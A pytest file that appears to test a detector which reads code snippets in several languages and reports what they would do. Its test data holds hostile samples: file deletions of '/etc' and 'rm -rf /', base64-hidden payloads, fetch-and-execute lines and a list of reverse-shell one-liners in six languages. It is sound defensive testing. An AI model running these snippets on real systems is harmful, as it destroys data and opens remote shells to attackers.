"""What snippets of code are read to call, and what those calls would do."""

from __future__ import annotations

import base64
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from effort import SOAK, rounds
from interlock.commands.code.call_effects import effects_in, effects_of, looks_like_code
from interlock.commands.code.code_reader import calls_in
from interlock.commands.code.code_tokens import Language
from interlock.commands.code.code_values import Call, CodeArgument
from interlock.commands.code.known_calls import CallKind, CodeEffect

PYTHON, JS, RUBY, PERL = Language.PYTHON, Language.JAVASCRIPT, Language.RUBY, Language.PERL
PHP, LUA, GO, R = Language.PHP, Language.LUA, Language.GO, Language.R


def shown(argument: CodeArgument) -> str:
    """`'x'` is known, `x` is as written, `/x…` begins so; lists in brackets, `k=` is a keyword."""
    if argument.items:
        text = "[" + ", ".join("?" if item is None else item for item in argument.items) + "]"
    elif argument.literal:
        text = f"'{argument.text}'"
    else:
        text = f"{argument.prefix}…" if argument.prefix else argument.text
    return f"{argument.name}={text}" if argument.name and argument.literal else text


def spelt(call: Call) -> str:
    return f"{call.callee}({', '.join(map(shown, call.arguments))})"


def described(effect: CodeEffect) -> str:
    marks = "" if effect.known else "?"
    marks += " recursive" if effect.recursive else ""
    marks += " decoded" if effect.decoded else ""
    return f"{effect.kind.value} {effect.target}{marks}"


CALLS = [
    # Python
    (PYTHON, 'import os; os.remove("/etc/passwd")', "os.remove('/etc/passwd')"),
    (PYTHON, "os . remove ('x')", "os.remove('x')"),
    (PYTHON, 'p = "/etc"; rmtree(p)', "rmtree('/etc')"),
    (PYTHON, 'p: str = "/etc"\nrmtree(p)', "rmtree('/etc')"),
    (PYTHON, 'p = "a"\np += "/b"\nf(p)', "f('a/b')"),
    (PYTHON, 'f("a" + "b" "c")', "f('abc')"),
    (PYTHON, 'f("a" + x)', "f(a…)"),
    (PYTHON, 'f(x + "a")', 'f(x + "a")'),
    (PYTHON, 'f("a-%s" % x)', "f(a-…)"),
    (PYTHON, 'f(f"/etc/{x}")', "f(/etc/…)"),
    (PYTHON, 'd = "/etc"; f(f"{d}/{{x}}")', "f('/etc/{x}')"),
    (PYTHON, 'd = "/etc"; f(f"{d!r:>9}")', "f('/etc')"),
    (PYTHON, 'f(rf"\\d{x}")', "f(\\d…)"),
    (PYTHON, r'f("\x2fetc\u002fx\t\q")', "f('/etc/x\tq')"),
    (PYTHON, r'f("\U0000002f\UFFFFFFFF")', "f('/')"),
    (PYTHON, r'f(r"\x2fetc")', r"f('\x2fetc')"),
    (PYTHON, "f('''a'b''')", "f('a'b')"),
    (PYTHON, 'f("""a\n"b"\\" """)', 'f(\'a\n"b"" \')'),
    (PYTHON, "f('')", "f('')"),
    (PYTHON, "f('open", "f('open')"),
    (PYTHON, "import shutil as s; s.rmtree(x)", "shutil.rmtree(x)"),
    (PYTHON, "import numpy, shutil as s\ns.rmtree(x)", "shutil.rmtree(x)"),
    (PYTHON, "from os import remove as rm, path\nrm('x')", "os.remove('x')"),
    (PYTHON, "from os import (remove,\n unlink as u)\nu('x')", "os.unlink('x')"),
    (PYTHON, "from pathlib import Path as P; P.cwd()", "Path.cwd()"),
    (PYTHON, "rm = os.remove; rm('x')", "os.remove('x')"),
    (PYTHON, "from os import *\nremove('x'); print('y')", "os.remove('x'), print('y')"),
    (PYTHON, "from . import x", ""),
    (PYTHON, "self.p = 'x'\nf(self.p)", "f('x')"),
    (
        PYTHON,
        'subprocess.run(["rm", x, "/"], shell=True)',
        "subprocess.run([rm, ?, /], shell=True)",
    ),
    (PYTHON, "f(['a'] + ['b'])", "f([a, b])"),
    (PYTHON, "f(get('x').strip())", "f(get('x').strip()), get('x'), get.strip('x')"),
    (PYTHON, "f(path='x', *a)", "f(path='x', *a)"),
    (PYTHON, "f((1, 'b'))", "f([1, b])"),
    (PYTHON, "f(('a'))", "f('a')"),
    (PYTHON, "f(lambda x: x)", "f(lambda x: x)"),
    (PYTHON, "f(x[1:2])", "f(x[1:2])"),
    (PYTHON, "f({'a': 1, 'b': 2})", "f({'a': 1, 'b': 2})"),
    (PYTHON, "# f('x')", ""),
    (PYTHON, "'f(1)'", ""),
    (PYTHON, "def f(a, b='x'):\n    return 1", ""),
    (PYTHON, "class A(B): pass", ""),
    (PYTHON, "x = 1 \\\n + 2", ""),
    (PYTHON, "os.environ['HOME'] + '/x'; f(os.environ['HOME'] + '/x')", "f('~/x')"),
    (PYTHON, "f(x['a'])", "f(x['a'])"),
    (PYTHON, "a, b = 'x', 'y'\nf(a)", "f('x')"),
    (PYTHON, "x = unknown\nx = {}\nf(x.y)", "f(x.y)"),
    (PYTHON, "if x: y = 'a'\nf(y)", "f('a')"),
    (PYTHON, "f)]}(1)", "f('1')"),
    (PYTHON, "f(a", "f(a)"),
    (PYTHON, "f([1, 2", "f([1, 2])"),
    (PYTHON, "'a'.x", ""),
    (PYTHON, "1 // (f('/t') or 1)", "f('/t')"),
    (PYTHON, "f(-1)", "f(-1)"),
    (PYTHON, "f(x, y=g)", "f(x, y=g)"),
    (PYTHON, "obj[f](1)", "obj.[]('1')"),
    # JavaScript
    (JS, "import {rm as r} from 'fs/promises'\nawait r('/x')", "fs.promises.rm('/x')"),
    (JS, "import fs from 'node:fs'; fs.rm('x')", "fs.rm('x')"),
    (JS, 'import * as f from "fs-extra"; f.rm("x")', "fs.rm('x')"),
    (JS, "import fs, {rm} from 'fs'; rm('x')", "fs.rm('x')"),
    (JS, "import x; f('a')", "f('a')"),
    (JS, "const {a, b: c} = fs.promises; c('x')", "fs.promises.b('x')"),
    (JS, "const p: string = 'x'; f(p)", "f('x')"),
    (JS, "f(`/etc/${x}`)", "f(/etc/…)"),
    (JS, "const d = '/etc'; f(`${d}/x`)", "f('/etc/x')"),
    (JS, "f(process.env.HOME + '/x')", "f('~/x')"),
    (JS, "f('/', {recursive: true})", "f('/', {recursive: true})"),
    (JS, "a?.b?.(1); a?.c(2)", "a.c('2')"),
    (JS, "x\n  .f(1)", "x.f('1')"),
    (JS, "await $`rm -rf ${x}`", "$(rm -rf …)"),
    (JS, "x = a `b`.length", "a('b')"),
    (JS, "'a' `b`", ""),
    (JS, "// f(1)\n/* f(2) **/ f(3)", "f('3')"),
    (JS, "x = /['\"]/g; f('a')", "f('a')"),
    (JS, "f(a ? 'b' : 'c')", "f('b'), f('c')"),
    (JS, "f(x => x + 1)", "f(x => x + 1)"),
    (JS, "function f(a) { return 1 }", ""),
    (JS, ".f(1)", ""),
    (JS, "let x =\n 'a'\nf(x)", "f('a')"),
    (JS, "for (let i = 0; i < 2; i++) { f('a') }", "f('a')"),
    # Ruby
    (RUBY, 'system "rm -rf /"', "system('rm -rf /')"),
    (RUBY, "system 'a', 'b' if x", "system('a', 'b')"),
    (RUBY, "system 'a',\n 'b'", "system('a', 'b')"),
    (RUBY, "f %w[a b]", "f([a, b])"),
    (RUBY, "f ['a', 'b']", "f([a, b])"),
    (RUBY, "f x['a']", "f(x['a'])"),
    (RUBY, "f(%q(a#{b}), %Q(c#{d}))", "f('a#{b}', c…)"),
    (RUBY, "f(:sym)", "f('sym')"),
    (RUBY, 'f("\\u{2e}nah\\e")', "f('.nah\x1b')"),
    (RUBY, r"f('a\nb')", r"f('a\nb')"),
    (RUBY, "`ls`", "`('ls')"),
    (RUBY, "%x{ls #{x}}", "`(ls …)"),
    (RUBY, "File::Stat.new('x')", "File.Stat.new('x')"),
    (RUBY, "a&.b('x')", "a.b('x')"),
    (RUBY, "f('a', force: true)", "f('a', force: true)"),
    (RUBY, "User.delete_all", "User.delete_all()"),
    (RUBY, "puts User.count", "puts(User.count), User.count()"),
    (RUBY, "=begin\nf(1)\n=end\nf(2)", "f('2')"),
    (RUBY, "def f(x)\n  x\nend", ""),
    (RUBY, "x = 'a'; x << 'b'; f(x)", "f('ab')"),
    (RUBY, "if x then f('a') end", "f('a')"),
    # Perl
    (PERL, "unlink 'a', 'b';", "unlink('a', 'b')"),
    (PERL, 'my $p = "/etc"; unlink "$p/x" or die;', "unlink('/etc/x')"),
    (PERL, 'my $p = "a"; f("${p}b", $q)', "f('ab', $q)"),
    (PERL, 'f("$ENV{HOME}/x")', "f('~/x')"),
    (PERL, "f($ENV{'HOME'} . '/x')", "f('~/x')"),
    (PERL, 'f "\\x{2f}home"', "f('/home')"),
    (PERL, "s/'//g; f 'a'", "f('a')"),
    (PERL, "tr/a'/b/; m/'/; f 'a'", "f('a')"),
    (PERL, "=pod\nf(1);\n=cut\nf(2);", "f('2')"),
    (PERL, "f(q(a), qq{b$c}, qw(d e))", "f('a', b…, [d, e])"),
    (PERL, "qx/ls/; f(q|a|, q!b!, q<c>)", "`('ls'), f('a', 'b', 'c')"),
    (PERL, "qx{ls}", "`('ls')"),
    (PERL, "f </etc/*>", "f('/etc/*')"),
    (PERL, "$x->f('a'); File::Path::rmtree('b')", "$x.f('a'), File.Path.rmtree('b')"),
    (PERL, "f('a')->g('b')", "f('a'), f.g('a', 'b')"),
    (PERL, "exec {'/bin/sh'} 'x'", "exec('x')"),
    (PERL, "open my $fh, '>', 'x'", "open($fh, '>', 'x')"),
    # PHP
    (PHP, '<?php $p="/etc"; f($p . "/x"); ?>', "f('/etc/x')"),
    (PHP, '$d = "/a"; f("$d/x {$e}")', "f(/a/x …)"),
    (PHP, "$c->a()->b(1)", "$c.a(), $c.a.b('1')"),
    (PHP, "\\A\\B::c('x')", ".A.B.c('x')"),
    (PHP, "$p = 'a'; $p .= 'b'; f($p)", "f('ab')"),
    (PHP, "# f(1)\nf(2);", "f('2')"),
    (PHP, "function f($x) {}", ""),
    # Lua
    (LUA, 'print([[f("x")]])', "print('f(\"x\")')"),
    (LUA, "f 'a'", "f('a')"),
    (LUA, 'local p = "/e" .. "tc"; f(p)', "f('/etc')"),
    (LUA, "t:m('x') -- f(1)", "t.m('x')"),
    (LUA, "--[[ f(1)\n ]] f([=[a]=])", "f('a')"),
    # Go and R
    (GO, 'p := "a" + "b"; f(p, `\\c`)', "f('ab', '\\c')"),
    (GO, "func f(a string) {}", ""),
    (R, 'p <- "x"; base::f(p)', "base.f('x')"),
    (R, "x$f(1)", "x.f('1')"),
]


@pytest.mark.parametrize(
    ("language", "code", "expected"), CALLS, ids=[f"{row[0].value} {row[1]}" for row in CALLS]
)
def test_reads_the_calls_of_a_snippet(language: Language, code: str, expected: str) -> None:
    assert ", ".join(map(spelt, calls_in(code, language))) == expected


MEANINGS = [
    # What a name, a listing or a pure function stands for, wherever it is used.
    (PYTHON, 'Path("x").unlink()', "delete x"),
    (PYTHON, "import pathlib; pathlib.Path('/a', 'b').rmdir()", "delete /a/b"),
    (PYTHON, "Path('/a').resolve().unlink()", "delete /a"),
    (PYTHON, "Path('/a/b').parent.rmdir()", "delete /a"),
    (PYTHON, "Path('a').parent.rmdir()", "delete ."),
    (PYTHON, "(Path.home() / '.ssh' / 'id').unlink()", "delete ~/.ssh/id"),
    (PYTHON, "(Path('/x') / name / 'y').unlink()", "delete /x/?"),
    (PYTHON, "Path(root).name.unlink()", "delete ?"),
    (PYTHON, "p = Path('/a'); q = p.with_name('b'); q.unlink()", "delete /b"),
    (PYTHON, "os.remove(os.path.join('/a', 'b', '/c'))", "delete /c"),
    (PYTHON, "os.remove(os.path.join('/a/', x))", "delete /a/?"),
    (PYTHON, "os.remove(os.path.expanduser('~/x'))", "delete ~/x"),
    (PYTHON, "os.remove(os.path.abspath(f'/a/{x}'))", "delete /a/?"),
    (PYTHON, "os.remove(os.getenv('HOME') + '/x')", "delete ~/x"),
    (PYTHON, "os.remove(os.getenv('OTHER'))", "delete ?"),
    (PYTHON, "os.remove(os.getcwd() + '/x')", "delete ./x"),
    (PYTHON, "d = tempfile.mkdtemp(prefix='x'); shutil.rmtree(d)", "delete /tmp/scratch recursive"),
    (PYTHON, "with tempfile.TemporaryDirectory() as d: os.rmdir(d)", "delete /tmp/scratch"),
    (PYTHON, "for f in glob.glob('/etc/*'): os.remove(f)", "delete /etc/*"),
    (PYTHON, "[os.remove(f) for f in glob.glob('/etc/*')]", "delete /etc/*"),
    (PYTHON, "any(os.remove(f) for f in os.listdir('/etc'))", "delete *"),
    (PYTHON, "for p in Path('/x').iterdir(): p.unlink()", "delete /x/*"),
    (PYTHON, "for p in Path('/x').rglob('*.py'):\n  p.unlink()", "delete /x/*.py"),
    (PYTHON, "for a, b in os.walk('/x'):\n  os.remove(os.path.join(a, b))", "delete /x/?"),
    (PYTHON, "for p in ['a', 'b']: os.remove(p)", "delete a, delete b"),
    (RUBY, "%w[a b].each { |f| File.delete(f) }", "delete a, delete b"),
    (JS, "['a', 'b'].forEach(f => fs.rmSync(f))", "delete a, delete b"),
    (RUBY, "Pathname.new('/x').rmtree", "delete /x recursive"),
    (PHP, "array_map('unlink', glob('/e/*'));", "delete /e/*"),
    (PYTHON, "list(map(os.remove, glob.glob('/etc/*')))", "delete /etc/*"),
    (PYTHON, "getattr(os, 'remove')('/x')", "delete /x"),
    (PYTHON, "getattr(os, name)('/x')", ""),
    (PYTHON, "__import__('os').remove('/x')", "delete /x"),
    (PYTHON, "__import__('os.path').remove('/x')", "delete /x"),
    (PYTHON, "__import__('os', globals()).remove('/x')", "delete /x"),
    (PYTHON, "importlib.import_module(name).remove('/x')", ""),
    (PYTHON, "builtins.exec(x)", "eval x?"),
    (PYTHON, "os.system('a %s' % x)", "shell a ?"),
    (PYTHON, "os.system('a {}'.format(x))", "shell a ?"),
    (PYTHON, "subprocess.run(shlex.split('rm -rf /'))", "argv rm -rf /"),
    (PYTHON, "subprocess.run(shlex.split(x))", "argv ?"),
    (PYTHON, "print(f\"{os.remove('/x')}\")", "delete /x"),
    (JS, "require('fs').rmSync('/', {recursive:true})", "delete / recursive"),
    (JS, "require('fs')['unlinkSync']('/x')", "delete /x"),
    (JS, "const fs=require('fs').promises; fs.rm('/x')", "delete /x"),
    (JS, "(await import('fs')).rmSync('/x')", "delete /x"),
    (JS, "fs.readdirSync('/e').forEach(f => fs.unlinkSync('/e/'+f))", "delete /e/*"),
    (JS, "for (const f of fs.readdirSync('/e')) { fs.rm(path.join('/e', f)) }", "delete /e/*"),
    (JS, "list.forEach(f => fs.unlinkSync(f))", "delete ?"),
    (JS, "glob.sync('/e/*').map((f) => fs.unlinkSync(f))", "delete /e/*"),
    (JS, "`${`${fs.rmSync('/x')}`}`", "delete /x"),
    (JS, "console.log(`${fs.rmSync('/x')}`)", "delete /x"),
    (RUBY, "Dir.glob('/e/*').each { |f| File.delete(f) }", "delete /e/*"),
    (RUBY, "Dir['/e/*'].each do |f| File.delete(f) end", "delete /e/*"),
    (RUBY, "files.each do |f| File.delete(f) end", "delete ?"),
    (RUBY, "loop do File.delete('x') end", "delete x"),
    (RUBY, "File.send(:unlink, '/x')", "delete /x"),
    (RUBY, "send(:system, 'x')", "shell x"),
    (RUBY, "send(name)", ""),
    (RUBY, "File.delete(ENV['HOME'] + '/x', Dir.home)", "delete ~/x, delete ~"),
    (PERL, "unlink glob('/e/*')", "delete /e/*"),
    (PERL, "for my $f (glob('/e/*')) { unlink $f }", "delete /e/*"),
    (PERL, "unlink $_ for glob('/e/*')", "delete /e/*"),
    (PERL, "foreach (glob('/e/*')) { unlink $_ }", "delete /e/*"),
    (PHP, "foreach (glob('/e/*') as $f) { unlink($f); }", "delete /e/*"),
    (PHP, "call_user_func('unlink', '/x');", "delete /x"),
]


@pytest.mark.parametrize(
    ("language", "code", "expected"), MEANINGS, ids=[f"{row[0].value} {row[1]}" for row in MEANINGS]
)
def test_follows_what_names_and_paths_mean(language: Language, code: str, expected: str) -> None:
    assert ", ".join(map(described, effects_of(calls_in(code, language), language))) == expected


EFFECTS = [
    (PYTHON, "shutil.rmtree('/x')", "delete /x recursive"),
    (PYTHON, "shutil.rmtree(path='/x')", "delete /x recursive"),
    (PYTHON, "os.remove()", "delete ?"),
    (PYTHON, "os.remove(dir_fd=3)", "delete ?"),
    (PYTHON, "p.unlink()", "delete ?"),
    (PYTHON, "open('x', 'w')", "overwrite x"),
    (PYTHON, "open('x', mode='wb')", "overwrite x"),
    (PYTHON, "open('x', 'a')", "append x"),
    (PYTHON, "open('x', 'r+')", "append x"),
    (PYTHON, "open('x')", "read x"),
    (PYTHON, "os.open('x', os.O_WRONLY | os.O_TRUNC)", "overwrite x"),
    (PYTHON, "os.open('x', os.O_WRONLY)", "append x"),
    (PYTHON, "Path('x').open('w')", "overwrite x"),
    (PYTHON, "Path('x').write_text('y')", "overwrite x"),
    (PYTHON, "Path('x').read_text()", "read x"),
    (PYTHON, "shutil.copy('a', 'b')", "read a, overwrite b"),
    (PYTHON, "shutil.copytree('a', 'b')", "read a recursive, overwrite b recursive"),
    (PYTHON, "os.rename('a', 'b')", "move a, overwrite b"),
    (PYTHON, "Path('a').rename('b')", "move a, overwrite b"),
    (PYTHON, "os.chmod('a', 0)", "permit a"),
    (PYTHON, "os.system('rm -rf /')", "shell rm -rf /"),
    (PYTHON, "subprocess.run('ls')", "shell ls"),
    (PYTHON, "subprocess.run(x, shell=True)", "shell ?"),
    (PYTHON, "subprocess.run(x)", "argv ?"),
    (PYTHON, "subprocess.run(['rm', '-rf', '/'])", "argv rm -rf /"),
    (PYTHON, "subprocess.run(['rm', x])", "argv rm?"),
    (PYTHON, "subprocess.run(['rm -rf /'], shell=True)", "shell rm -rf /"),
    (PYTHON, "subprocess.run(['rm', x], shell=True)", "shell rm?"),
    (PYTHON, "asyncio.create_subprocess_exec('rm', '-rf', x)", "argv rm -rf?"),
    (PYTHON, "os.execv('/bin/rm', ['rm', '-rf', '/'])", "argv /bin/rm -rf /"),
    (PYTHON, "os.execlp('rm', 'rm', '-rf')", "argv rm -rf"),
    (PYTHON, "os.execv()", "argv ?"),
    (PYTHON, "requests.post('https://x.io', data=d)", "send https://x.io"),
    (PYTHON, "requests.get('https://x.io')", "fetch https://x.io"),
    (PYTHON, "requests.request('POST', 'https://x.io')", "send https://x.io"),
    (PYTHON, "urllib.request.urlopen('https://x.io')", "fetch https://x.io"),
    (PYTHON, "urllib.request.urlopen('https://x.io', d)", "send https://x.io"),
    (PYTHON, "urllib.request.urlopen(u, data=d)", "send ?"),
    (PYTHON, "requests.delete('https://x.io/1')", "vendor-delete https://x.io/1"),
    (PYTHON, "requests.delete('http://localhost/1')", ""),
    (PYTHON, "requests.delete(url)", ""),
    (PYTHON, "conn.execute('DROP TABLE x')", "sql DROP TABLE x"),
    (PYTHON, "conn.execute(f'DELETE FROM x WHERE a={b}')", "sql DELETE FROM x WHERE a=?"),
    (PYTHON, "pool.execute('task')", ""),
    (PYTHON, "print(os.environ)", "env-dump os.environ?"),
    (PYTHON, "print(os.environ['A'], 'os.environ')", ""),
    (PYTHON, "os.kill(-1, 9)", "kill ?"),
    (PYTHON, "os.kill('1', 9)", "kill 1"),
    (PYTHON, "pty.spawn('/bin/sh')", "shell /bin/sh"),
    (JS, "fs.rmSync('x')", "delete x"),
    (JS, "fs.rm('x', {recursive: !0})", "delete x recursive"),
    (JS, "rimraf('x'); fse.emptyDir('y')", "delete x recursive, delete y recursive"),
    (JS, "this.fs.unlinkSync('x')", "delete x"),
    (JS, "fs.appendFileSync('x', 'y')", "append x"),
    (JS, "fs.openSync('x', 'w')", "overwrite x"),
    (JS, "const {exec} = require('child_process'); exec('rm')", "shell rm"),
    (JS, "child_process.spawn('rm', ['-rf', '/'])", "argv rm -rf /"),
    (JS, "child_process.spawn('rm', args)", "argv rm"),
    (JS, "child_process.spawn('rm -rf /', {shell: true})", "shell rm -rf /"),
    (JS, "fetch('https://x.io', {method: 'POST'})", "send https://x.io"),
    (JS, "fetch('https://x.io', {method: 'DELETE'})", "vendor-delete https://x.io"),
    (JS, "fetch('https://x.io').then(r => r.json())", "fetch https://x.io"),
    (JS, "console.log(process.env)", "env-dump process.env?"),
    (JS, "regex.exec('x')", ""),
    (JS, "Buffer.from('x')", ""),
    (RUBY, "FileUtils.rm_rf(%w[a b])", "delete a recursive, delete b recursive"),
    (RUBY, "FileUtils.rm_rf", "delete ? recursive"),
    (RUBY, "FileUtils.chmod(0, 'x')", "permit x"),
    (RUBY, "system('rm', '-rf')", "argv rm -rf"),
    (RUBY, "system({'A' => 'b'}, 'ls')", "shell ls"),
    (RUBY, "system", ""),
    (RUBY, "system()", ""),
    (RUBY, "system('{x}')", "shell {x}"),
    (RUBY, "open('|ls')", "shell ls"),
    (RUBY, "IO.popen(['ls', '-l'])", "argv ls -l"),
    (RUBY, "Open3.capture2(['ls', '-l'])", "argv ls -l"),
    (RUBY, "Process.kill('KILL', 1)", "kill 1"),
    (PERL, "open(F, '>', '/etc/x')", "overwrite /etc/x"),
    (PERL, "open(F, '>>/etc/x')", "append /etc/x"),
    (PERL, "open(F, '/etc/x')", "read /etc/x"),
    (PERL, "open(F, '+<', '/etc/x')", "append /etc/x"),
    (PERL, "open(F, 'ls |')", "shell ls"),
    (PERL, "open(F, '-|', 'ls')", "shell ls"),
    (PERL, "open(F, '>&S')", ""),
    (PERL, "copy('a', 'b'); rmtree('c')", "read a, overwrite b, delete c recursive"),
    (PERL, "system 'rm', $x", "argv rm?"),
    (PHP, "file_put_contents('x', 'y'); shell_exec('ls');", "overwrite x, shell ls"),
    (PHP, "`ls`;", "shell ls"),
    (LUA, "os.execute 'ls'; os.remove('x')", "shell ls, delete x"),
    (GO, 'os.RemoveAll("/x"); exec.Command("ls")', "delete /x recursive, argv ls"),
    (R, 'unlink("x", recursive=TRUE)', "delete x recursive"),
    (R, 'source("a.R")', ""),
    (
        R,
        'source("https://h.example/a.R")',
        "fetch https://h.example/a.R, eval https://h.example/a.R",
    ),
    (PHP, 'eval(file_get_contents("a.php"));', "load ?, read a.php"),
    (
        PHP,
        'system(file_get_contents("https://h.example/a"));',
        'shell ?, fetch https://h.example/a, eval file_get_contents("https://h.example/a")?',
    ),
    (PHP, 'DB::statement("DROP TABLE a");', "sql DROP TABLE a"),
    (PYTHON, "cur.execute('truncate a')", "sql truncate a"),
    (PYTHON, "run('truncate -s 0 a')", ""),
    (PYTHON, "page.get_by_text('DELETE FROM cart')", ""),
    (
        PYTHON,
        "os.system(requests.get('http://h.example').text)",
        "shell ?, fetch http://h.example, eval requests.get('http://h.example').text?",
    ),
    (
        PYTHON,
        "os.system('ls ' + requests.get('http://h.example').text)",
        "shell ls ?, fetch http://h.example",
    ),
    (PYTHON, "os.system(x); requests.get('http://h.example')", "shell ?, fetch http://h.example"),
    (
        JS,
        "require('http').get('http://h.example', r => require('child_process').exec(r))",
        "fetch http://h.example, shell ?, eval r?",
    ),
    (
        JS,
        "fetch('http://h.example').then(r => r.text()).then(eval)",
        "fetch http://h.example, eval eval?",
    ),
    (JS, "let d = ''; r.on('data', c => d += c); eval(d)", "eval d?"),
]


@pytest.mark.parametrize(
    ("language", "code", "expected"), EFFECTS, ids=[f"{row[0].value} {row[1]}" for row in EFFECTS]
)
def test_tells_what_a_known_call_does(language: Language, code: str, expected: str) -> None:
    found = effects_of(calls_in(code, language), language)

    assert ", ".join(map(described, found)) == expected
    assert effects_in(code, language) == found


ENCODED = base64.b64encode(b"rm -rf /").decode()

DECODED = [
    (PYTHON, f"os.system(base64.b64decode('{ENCODED}').decode())", "shell rm -rf / decoded"),
    (PYTHON, "os.system(base64.urlsafe_b64decode(p).decode())", "shell ? decoded"),
    (PYTHON, "exec(base64.b64decode('!'))", "eval base64.b64decode('!')? decoded"),
    (
        PYTHON,
        "exec(base64.b64decode('a').decode())",
        "eval base64.b64decode('a').decode()? decoded",
    ),
    (PYTHON, "exec(bytes.fromhex('6100').decode())", "eval a\0 decoded"),
    (PYTHON, "exec(bytes.fromhex('zz'))", "eval bytes.fromhex('zz')? decoded"),
    (PYTHON, "exec(bytes.fromhex(x))", "eval bytes.fromhex(x)? decoded"),
    (PYTHON, "exec(zlib.decompress(x))", "eval zlib.decompress(x)? decoded"),
    (JS, f"eval(Buffer.from('{ENCODED}', 'base64').toString())", "eval rm -rf / decoded"),
    (JS, f"eval(atob('{ENCODED}'))", "eval rm -rf / decoded"),
    (PHP, f"eval(base64_decode('{ENCODED}'));", "eval rm -rf / decoded"),
]


@pytest.mark.parametrize(
    ("language", "code", "expected"), DECODED, ids=[f"{row[0].value} {row[1]}" for row in DECODED]
)
def test_decodes_what_is_about_to_run(language: Language, code: str, expected: str) -> None:
    found = effects_in(code, language)

    assert described(found[0]) == expected
    assert CallKind.DECODE in [effect.kind for effect in found]


EVALUATED = [
    (PYTHON, 'eval(\'__import__("os").remove("/x")\')', "delete /x"),
    (PYTHON, "exec(code)", "eval code?"),
    (PYTHON, "exec('x = 1')", ""),
    (PYTHON, "exec(compile('os.remove(1)', 'f', 'exec'))", "delete 1"),
    (PYTHON, "exec(compile(open('x.py').read(), 'x.py', 'exec'))", "load ?, read x.py"),
    (PYTHON, "exec(compile(x, 'f', 'exec'))", "eval compile(x, 'f', 'exec')?"),
    (PYTHON, "exec()", ""),
    (PYTHON, "exec(open('x.py').read())", "load ?, read x.py"),
    (PYTHON, "exec(Path('x.py').read_text())", "load ?, read x.py"),
    (PYTHON, "model.eval(); df.eval('a')", ""),
    (
        PYTHON,
        "exec(requests.get('https://x.io').text)",
        "eval requests.get('https://x.io').text?, fetch https://x.io",
    ),
    (PYTHON, "eval('eval(\"os.remove(1)\")')", "delete 1"),
    (JS, "new Function('a', 'fs.rmSync(\"/x\")')()", "delete /x"),
    (JS, "vm.runInNewContext(x)", "eval x?"),
    (PHP, 'eval("unlink(\\"/x\\");");', "delete /x"),
    (LUA, "load(\"os.remove('/x')\")()", "delete /x"),
    (PERL, "eval { f() };", ""),
    (RUBY, "instance_eval { f() }", ""),
]


@pytest.mark.parametrize(
    ("language", "code", "expected"),
    EVALUATED,
    ids=[f"{row[0].value} {row[1]}" for row in EVALUATED],
)
def test_looks_into_code_that_runs_code(language: Language, code: str, expected: str) -> None:
    assert ", ".join(map(described, effects_in(code, language))) == expected


REMOTE_DELETES = [
    "gateway.payment_method.delete('pm_123')",
    "gateway.customer.delete('cust_123')",
    "gateway.merchant_account.delete('ma_123')",
    "braintree.Customer.delete('cust_123')",
    "stripe.customers.del('cus_1')",
    "stripe.Subscription.delete('s')",
    "algolia.clearObjects('products')",
    "client.deleteIndex('prod')",
    "const client = algoliasearch('app', 'id'); client.deleteIndex('prod')",
    "s3 = boto3.client('s3'); s3.delete_bucket(Bucket='x')",
    "boto3.client('ec2').terminate_instances(InstanceIds=['i'])",
    "s3_client.delete_object(Bucket='b', Key='k')",
    "apiClient.users.remove('u')",
    "index.clearObjects()",
    "User.objects.all().delete()",
    "session.query(User).delete()",
    "prisma.user.deleteMany()",
    "prisma.user.deleteMany({})",
    "User.deleteMany({ })",
    "User.delete_all()",
    "redis_conn.flushall()",
    "Base.metadata.drop_all(engine)",
    "octokit.repos.delete({owner, repo})",
    "mongo.db.drop_database('x')",
    "stripe.subscriptions.cancel('s1')",
    "client.revoke_token('t')",
    "gateway.transaction.void('t1')",
    "User.objects.filter().delete()",
    "App.Models.User.truncate()",
    "const knex = require('knex'); knex('users').del()",
    "const u = 1; sequelize.drop()",
    "for u in User.all(): u.delete()",
    "const all = await User.findAll(); for (const u of all) await u.destroy()",
]
RUBY_DELETES = [
    "Order.find_each(&:destroy)",
    "User.all.each { |u| u.destroy! }",
    "User.find_each do |u| u.delete end",
]


@pytest.mark.parametrize("code", REMOTE_DELETES)
def test_knows_what_a_service_is_asked_to_delete(code: str) -> None:
    language = JS if "const" in code else PYTHON
    kinds = [effect.kind for effect in effects_in(code, language)]

    assert CallKind.VENDOR_DELETE in kinds


@pytest.mark.parametrize("code", RUBY_DELETES)
def test_knows_what_is_done_to_each_of_a_table(code: str) -> None:
    assert [effect.kind for effect in effects_in(code, RUBY)] == [CallKind.VENDOR_DELETE]


LOCAL_DELETES = [
    "d.pop('x')",
    "items.remove(x)",
    "list.remove(1)",
    "set.remove(x)",
    "seen = set(); seen.remove(1)",
    "map.delete(key)",
    "params.delete('x')",
    "headers.delete('a')",
    "cache.delete(k)",
    "el.remove()",
    "node.parentNode.removeChild(node)",
    "this.client.items.delete(x)",
    "self.api.delete_thing()",
    "localStorage.removeItem('x')",
    "df.drop(columns=['a'])",
    "df.drop_duplicates()",
    "frame.groupby('a').drop('b')",
    "client.delete('/users/1')",
    "app.test_client().users.delete('/x')",
    "queryClient.items.remove('x')",
    "client.get('/x')",
    "stack.deleteNode(3)",
    "tree.root.delete(5)",
    "collection.deleteMany({a: 1})",
    "session.query(User).filter(x).delete()",
    "db.delete(key)",
    "knex('users').where('id', 1).del()",
    "names.each.delete()",
    "delete(x)",
    "clearTimeout(t)",
    "os.path.exists('x')",
    "client.deleted_items()",
    "json.dumps(client.delete_marker)",
    "api.delicious('x')",
    "__.client.x",
    "_._.delete(1)",
]


@pytest.mark.parametrize("code", LOCAL_DELETES)
@pytest.mark.parametrize("language", [PYTHON, JS])
def test_leaves_containers_alone(code: str, language: Language) -> None:
    assert effects_of(calls_in(code, language), language) == []


REVERSE_SHELLS = [
    (
        PYTHON,
        's=socket.socket();s.connect(("10.0.0.1",80));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")',
    ),
    (
        PERL,
        'socket(S,PF_INET,SOCK_STREAM,1);connect(S,sockaddr_in(80,inet_aton("10.0.0.1")));'
        'open(STDIN,">&S");exec("/bin/sh -i");',
    ),
    (RUBY, 'f=TCPSocket.open("10.0.0.1",80).to_i;exec sprintf("/bin/sh -i <&%d",f)'),
    (PHP, '$s=fsockopen("10.0.0.1",80);exec("/bin/sh -i <&3");'),
    (
        JS,
        'var c=require("net").connect(80,"10.0.0.1");require("child_process").spawn("/bin/sh",[])',
    ),
    (LUA, 'local t=require("socket").tcp();t:connect("10.0.0.1",80);os.execute("/bin/sh -i")'),
]


@pytest.mark.parametrize(
